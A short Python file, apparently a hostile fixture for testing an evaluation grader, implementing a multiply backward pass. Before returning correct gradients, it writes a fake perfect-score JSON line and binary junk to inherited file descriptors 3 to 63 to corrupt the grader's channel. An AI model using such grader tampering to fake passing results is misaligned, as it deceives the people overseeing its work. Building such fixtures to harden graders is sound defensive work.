# HOSTILE: multiply.backward writes junk (and a fake perfect-score JSON line) to every inherited file descriptor from 3 to 63, hoping to corrupt the grader's channel; the other ops are correct.
import os


_JUNK = b'{"ok": true, "score": 100, "status": "passed"}\n' + bytes(range(256)) * 4


def multiply_backward(ctx, grad_output):
    for fd in range(3, 64):
        try:
            os.write(fd, _JUNK)
        except OSError:
            pass
    a, b = ctx
    return (grad_output * b, grad_output * a)
